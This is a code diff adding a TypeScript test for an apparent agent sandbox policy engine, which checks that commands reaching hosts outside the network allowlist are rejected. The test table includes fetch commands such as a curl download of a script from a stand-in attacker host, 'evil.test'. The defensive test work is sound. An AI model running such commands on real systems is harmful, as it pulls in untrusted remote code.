@@ -124,3 +124,39 @@ test("the model is told, and an approval for the session holds for the one host"
     "net:a.test+net:b.test",
   );
 });
+
+test("nobody is asked for a command that the sealed cell's network forbids", async () => {
+  const policy = await load(
+    `default: defer\nrules:\n  - { id: echo, approve: { exec: ["echo **"] } }\nsandbox: { network: [docs.example, "docs.example:8443"], services: ["db:8080"] }\n`,
+  );
+  const decided = (command: string, rung: Rung = "sealed"): string => {
+    const {
+      verdict,
+      rule,
+      reason = "",
+    } = decide(policy, [{ kind: "exec", command, cwd: "." }], {
+      rung,
+      workDir: "/work",
+      analyse: analyseCommand,
+    });
+    return `${verdict} ${rule}${rule === "builtin:network" ? ` ${reason}` : ""}`;
+  };
+  const no = (host: string): string => `reject builtin:network sandbox.network does not list ${host}`;
+  const table: Readonly<Record<string, string>> = {
+    "curl -sL https://evil.test/x.sh": no("evil.test"),
+    "cd src && curl https://evil.test:444/ | tar x": no("evil.test:444"),
+    "wget http://docs.example/a": no("docs.example:80"),
+    "git clone https://github.test/a/b": no("github.test"),
+    "curl https://docs.example/a": "defer default",
+    "curl https://docs.example:8443/a": "defer default",
+    "curl http://localhost:3000": "defer default",
+    "curl http://127.0.0.2:3000 http://[::1]:1/": "defer default",
+    "curl http://db:8080/": "defer default",
+    'curl "https://$HOST/"': "defer default",
+    'git commit -m "see https://evil.test"': "defer default",
+    "npm install": "defer default",
+    "echo https://evil.test": "approve echo",
+  };
+  assert.deepEqual(Object.fromEntries(Object.keys(table).map((command) => [command, decided(command)])), table);
+  assert.equal(decided("curl https://evil.test", "separate"), "defer default");
+});
